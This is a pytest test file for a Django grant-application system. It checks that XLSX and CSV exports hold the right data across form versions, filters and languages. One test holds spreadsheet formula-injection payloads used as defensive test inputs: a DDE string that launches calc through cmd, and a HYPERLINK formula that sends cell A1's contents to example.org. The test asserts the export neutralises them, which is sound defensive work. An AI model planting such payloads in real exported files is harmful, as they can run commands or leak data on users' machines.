"""Sheets of the applications sent: read back cell by cell, in all their versions, harmless, in both languages."""

import csv
import io
from datetime import datetime

import pytest
from django.urls import reverse

from talenti.base.clock import a_quest_ora, oggi
from tests.factories.esportazioni import con_quesiti, corretto, mandata, prima
from tests.factories.istruttoria import AMMETTE, ESCLUDE, decisa, detta
from tests.factories.luoghi import comune
from tests.factories.posti import DueBandi, chiuso
from tests.factories.registri import protocollata
from tests.factories.thinktown import (
    Ufficio,
    cominciata,
    completa,
    di_se,
    dopo_la_chiusura,
    inviata,
    maggiorenne,
    risposta,
)
from tests.xlsx import formule, leggi
from thinktown import actions
from thinktown.definizione import Colonna, Quesito
from thinktown.enums import TipoQuesito

pytestmark = pytest.mark.django_db


@pytest.fixture
def ufficio(client):
    casa = Ufficio()
    client.force_login(casa.scrive)
    return casa


def scarica(client, bando, formato, **filtri):
    """The bytes handed over, wherever they come from."""
    risposta_ = client.post(
        reverse("admin:thinktown_bando_esporta", args=[bando.pk], query=filtri), {"formato": formato}
    )
    assert (risposta_.status_code, "no-store" in risposta_["Cache-Control"]) == (200, True)
    return b"".join(risposta_.streaming_content)


def in_csv(byte):
    assert byte.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(byte.decode("utf-8-sig"), newline=""), delimiter=";"))


def per_colonna(foglio, riga):
    return dict(zip(foglio[0], [*riga, *[None] * len(foglio[0])], strict=False))


PRIME = [
    *("Numero", "Codice", "Arrivata", "Chi presenta", "Che cos'è", "Sezione", "Stato", "Codice fiscale", "Sede"),
    *("Esiste dal", "Protocollo", "Data di protocollo", "Motivo della decisione"),
]
N = len(PRIME)


def test_the_workbook_holds_what_was_sent(client, ufficio):
    persona, altra = maggiorenne(comune=comune("Crema")), maggiorenne()
    with a_quest_ora(datetime.fromisoformat("2030-12-07T10:59:58.700+00:00")):
        bando = ufficio.pubblicato()
        cominciata(bando)
        domanda = mandata(bando, persona, [altra], spese=[
            {"voce": "Microfoni", "quanto": "600", "a_chi": "Un negozio"},
            {"voce": "Volantini", "quanto": "30,50", "a_chi": ""},
        ])  # fmt: skip
    risposta_dopo = {"da": persona, "arrivo": bando.apre_il}
    risposta(domanda, "titolo", "Cambiato dopo", **risposta_dopo)
    letto = leggi(scarica(client, bando, "xlsx"))

    assert list(letto) == ["Domande", "Tabelle", "Persone"]
    titoli, riga = letto["Domande"]
    assert titoli[:N] == PRIME
    quesiti = [uno for uno in bando.in_vigore.quesiti() if uno.chiave != "spese"]
    assert [uno for uno in titoli[N:] if not uno.startswith("Quanto costa il progetto")] == [
        uno.domanda for uno in quesiti
    ]
    detti = per_colonna(letto["Domande"], riga)
    assert [detti[uno] for uno in PRIME] == [
        *(1, domanda.codice, datetime(2030, 12, 7, 11, 59, 58), "Radio Quartiere", "un gruppo informale"),
        *("A · Gruppi informali", "Inviata", "", None, None, None, None, None),
    ]
    assert detti["Come si chiama il progetto"] == "Radio Quartiere"
    assert detti["Di che cosa si occupa"] == "Utilità sociale e impegno civico"
    assert detti["Quando comincia"] == datetime(2027, 3, 1)
    assert detti["Quanto costa il progetto: in tutto, quanto costa"] == 630.5
    assert detti["Chi risponde del progetto, maggiorenne"] == persona.get_full_name()
    assert letto["Tabelle"] == [
        ["Numero", "Codice", "Chi presenta", "Voce", "Riga", "Che cosa", "Quanto costa", "A chi si paga"],
        [1, domanda.codice, "Radio Quartiere", "Quanto costa il progetto", 1, "Microfoni", 600, "Un negozio"],
        [1, domanda.codice, "Radio Quartiere", "Quanto costa il progetto", 2, "Volantini", 30.5],
    ]
    nati = datetime(1999, 5, 17)
    # A reader drops what is empty at the end of a row.
    assert [[*riga, None][:9] for riga in letto["Persone"]] == [
        ["Numero", "Codice", "Chi presenta", "Nome", "Ruolo nel gruppo", "Riceve il contributo", "Data di nascita",
         "Comune", "Studia o lavora"],
        [1, domanda.codice, "Radio Quartiere", persona.get_full_name(), "Parla per il gruppo, e invia", "sì", nati,
         "Soresina", None],
        [1, domanda.codice, "Radio Quartiere", altra.get_full_name(), "Scrive la domanda", "no", nati,
         "Soresina", None],
    ]  # fmt: skip


def test_versions_that_ask_other_things_share_one_sheet(client, ufficio):
    bando = prima(ufficio)
    vecchia = mandata(bando, maggiorenne(), motto="Si comincia")
    bando = corretto(ufficio, bando)
    giorni = [{"voce": "La prima", "giorno": "2027-04-02", "ore": "3"}, {"voce": "", "giorno": "", "ore": "4"}]
    dopo = mandata(bando, maggiorenne(), quanti="12", giorni=giorni)
    letto = leggi(scarica(client, bando, "xlsx"))

    titoli = letto["Domande"][0]
    una, altra = (per_colonna(letto["Domande"], riga) for riga in letto["Domande"][1:])
    assert (una["Codice"], altra["Codice"]) == (vecchia.codice, dopo.codice)
    # In the order of the latest version; what only the first one asked stands behind.
    assert titoli[N : N + 3] == ["Come si chiama il progetto", "In quanti siete", "Quando vi trovate: in tutto, ore"]
    assert titoli[-1] == "Il vostro motto"
    assert (una["In quanti siete"], una["Quando vi trovate: in tutto, ore"]) == (None, None)
    assert (altra["In quanti siete"], altra["Quando vi trovate: in tutto, ore"]) == (12, 7)
    assert (una["Il vostro motto"], altra["Il vostro motto"]) == ("Si comincia", None)
    # One sheet for all the tables: columns with the same key and kind are shared.
    assert letto["Tabelle"][0][5:] == ["Giornata / Che cosa", "Quando", "Ore", "Quanto costa", "A chi si paga"]
    assert [riga[3:] for riga in letto["Tabelle"][1:]] == [
        ["Quanto costa il progetto", 1, "Microfoni", None, None, 600, "Un negozio"],
        ["Quando vi trovate", 1, "La prima", datetime(2027, 4, 2), 3],
        ["Quando vi trovate", 2, None, None, 4],
        ["Quanto costa il progetto", 1, "Microfoni", None, None, 600, "Un negozio"],
    ]


def _come_testo(valore):
    """What the CSV writes of a cell of the workbook."""
    if isinstance(valore, datetime):
        return f"{valore:%Y-%m-%d}" if valore.hour == valore.second == 0 else f"{valore:%Y-%m-%d %H:%M:%S}"
    if isinstance(valore, float):
        return str(int(valore)) if valore == int(valore) else f"{valore:.2f}".replace(".", ",")
    return valore or ""


@pytest.mark.parametrize(
    ("formato", "foglio"), [("csv", "Domande"), ("csv_tabelle", "Tabelle"), ("csv_persone", "Persone")]
)
def test_csv_and_workbook_say_the_same(client, ufficio, formato, foglio):
    bando = ufficio.pubblicato()
    mandata(bando, maggiorenne(), [maggiorenne()], idea='Due righe;\ncon «virgolette» "dritte"', chiesto="1.200,50")
    scritto = in_csv(scarica(client, bando, formato))
    letto = [[_come_testo(uno) for uno in riga] for riga in leggi(scarica(client, bando, "xlsx"))[foglio]]
    larga = len(letto[0])
    senza_zeri = [[uno.removesuffix(",00") for uno in riga] for riga in scritto]
    assert senza_zeri == [[*riga, *[""] * (larga - len(riga))] for riga in letto]


OSTILI = {
    "titolo": '=HYPERLINK("http://example.org/?"&A1;"premi")',
    "idea": "+39 0372\n=1+1",
    "perche": "@SUM(A1:A9)",
    "come": "- primo\n- secondo",
    "comuni": "＝1+1",
}


def test_no_cell_begins_a_formula(client, ufficio):
    bando = ufficio.pubblicato()
    spese = [{"voce": "=cmd|' /C calc'!A0", "quanto": "600", "a_chi": "\t=1"}]
    mandata(bando, maggiorenne(nome="=1+1", cognome="－2"), spese=spese, **OSTILI)
    byte = scarica(client, bando, "xlsx")
    fogli = {"Domande": "csv", "Tabelle": "csv_tabelle", "Persone": "csv_persone"}
    for foglio, formato in fogli.items():
        celle = [uno for riga in in_csv(scarica(client, bando, formato)) for uno in riga]
        celle += [uno for riga in leggi(byte)[foglio] for uno in riga if isinstance(uno, str)]
        assert [uno for uno in celle if uno.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))] == []
    detti = per_colonna(leggi(byte)["Domande"], leggi(byte)["Domande"][1])
    assert detti["Come si chiama il progetto"] == f"'{OSTILI['titolo']}"
    assert detti["Che cosa volete fare"] == f"'{OSTILI['idea']}"
    assert formule(byte) == []


def test_only_what_the_filters_show(client, ufficio):
    bando, persona = ufficio.pubblicato(), maggiorenne()
    ritirata = inviata(bando, persona)
    inviata(bando)
    actions.ritira(ritirata, da=persona)
    inviata(ufficio.pubblicato())

    def codici(**filtri):
        return [riga[0] for riga in in_csv(scarica(client, bando, "csv", **filtri))[1:]]

    assert codici() == ["1", "2"]
    assert codici(cosa="ritirate") == ["1"]
    assert codici(cosa="x", sezione="x", q="\x00") == ["1", "2"]
    assert codici(q="2", sezione="gruppi") == ["2"]


def test_of_an_application_sent_again_only_the_last_sending(client, ufficio):
    bando, persona = ufficio.pubblicato(), maggiorenne()
    domanda = inviata(bando, persona)
    risposta(domanda, "titolo", "Radio Piazza", da=persona)
    actions.invia(domanda, gettone="due", da=persona)
    letto = leggi(scarica(client, bando, "xlsx"))["Domande"]
    assert [per_colonna(letto, riga)["Come si chiama il progetto"] for riga in letto[1:]] == ["Radio Piazza"]


def test_headings_are_in_the_language_of_the_page_and_answers_in_their_own(client, ufficio):
    bando = ufficio.pubblicato()
    inviata(bando)
    indirizzo = "/en" + reverse("admin:thinktown_bando_esporta", args=[bando.pk])
    risposta_ = client.post(indirizzo, {"formato": "csv"})
    righe = in_csv(b"".join(risposta_.streaming_content))
    assert righe[0][: N + 1] == [
        *("Number", "Code", "Arrived", "Applicant", "What it is", "Section", "Status", "Tax code (codice fiscale)"),
        *("Premises", "Exists since", "Reference number", "Protocol date", "Reason for the decision"),
        "Come si chiama il progetto",
    ]
    assert righe[1][3:7] == ["Radio Quartiere", "an informal group", "A · Gruppi informali", "Sent"]


def test_of_a_table_without_sums_the_rows_are_counted(client, ufficio):
    colonne = (Colonna(chiave="nome", nome="Nome"),)
    tabella = Quesito(chiave="chi", tipo=TipoQuesito.TABELLA, domanda="Con chi", obbligatorio=False, colonne=colonne)
    bando = ufficio.pubblicato(con_quesiti(completa(), tabella))
    mandata(bando, maggiorenne(), chi=[{"nome": "La scuola"}, {"nome": "La parrocchia"}])
    inviata(bando)
    letto = leggi(scarica(client, bando, "xlsx"))["Domande"]
    assert [per_colonna(letto, riga)["Con chi: righe"] for riga in letto[1:]] == [2, None]


# ── What was photographed, and what the office has written beside it ──────────────────────────────
@pytest.mark.parametrize("formato", ["xlsx", "csv"])
def test_places_are_told_by_the_name_that_they_had(client, formato):
    due = DueBandi(quante=2)
    due.invia(due.bozza(codici=[due.codici[1], due.codici[0]]))
    client.force_login(due.ufficio.scrive)
    byte = scarica(client, due.secondo, formato)
    foglio = leggi(byte)["Domande"] if formato == "xlsx" else in_csv(byte)
    scelti = next(uno for uno in due.secondo.in_vigore.quesiti() if uno.tipo == TipoQuesito.PREFERENZE)
    assert per_colonna(foglio, foglio[1])[scelti.domanda] == (
        "1. Etichette che raccontano il campo 2 · Organizzazione 2, Soresina; "
        "2. Etichette che raccontano il campo 1 · Organizzazione 1, Soresina"
    )


def test_of_each_person_the_work_and_the_place_as_she_said_them(client):
    due = DueBandi(quante=1)
    due.invia(due.bozza())
    domanda = due.bozza()
    di_se(domanda, domanda.componenti.get().persona, residenza="fuori", occupazione="lavora")
    due.invia(domanda)
    client.force_login(due.ufficio.scrive)
    foglio = leggi(scarica(client, due.secondo, "xlsx"))["Persone"]
    dette = [per_colonna(foglio, riga) for riga in foglio[1:]]
    # Out of the province is an answer, and not the same as what nobody asked.
    assert [(una["Comune"], una["Studia o lavora"]) for una in dette] == [
        ("Soresina", "non ha lavoro"),
        ("Fuori provincia", "lavora"),
    ]


def test_of_an_organisation_its_seat_and_since_when_it_is_there(client):
    ufficio, bando, _domande = chiuso()
    client.force_login(ufficio.scrive)
    foglio = leggi(scarica(client, bando, "xlsx"))["Domande"]
    detti = per_colonna(foglio, foglio[1])
    assert detti["Sede"] == "Soresina"


def test_the_number_of_the_register_and_why_it_was_decided_so(client, ufficio):
    bando = ufficio.pubblicato()
    esclusa, ammessa, sospesa, riaperta, aspetta = (inviata(bando) for _n in range(5))
    with dopo_la_chiusura(bando):
        giorno = oggi()
        protocollata(esclusa, ufficio.scrive, "0012345")
        detta(esclusa, ESCLUDE, ufficio.scrive)
        detta(ammessa, AMMETTE, ufficio.scrive)
        detta(riaperta, ESCLUDE, ufficio.scrive)
        actions.riesamina(riaperta, motivo="Mancava un foglio.", da=ufficio.pubblica)
        decisa(sospesa, ESCLUDE, ufficio.scrive)
    foglio = leggi(scarica(client, bando, "xlsx"))["Domande"]
    dette = {riga["Codice"]: riga for riga in (per_colonna(foglio, una) for una in foglio[1:])}
    giorno = datetime.combine(giorno, datetime.min.time())
    assert [dette[esclusa.codice][uno] for uno in PRIME[-3:]] == ["0012345", giorno, ESCLUDE.motivo]
    # What was not told, or no longer holds, is no reason.
    for altra in (sospesa, riaperta, aspetta):
        assert [dette[altra.codice][uno] for uno in PRIME[-3:]] == [None, None, None]
    # Who is admitted may be given none.
    assert [dette[ammessa.codice][uno] for uno in ("Stato", *PRIME[-3:])] == [
        *("Ammessa", None, None, ""),
    ]
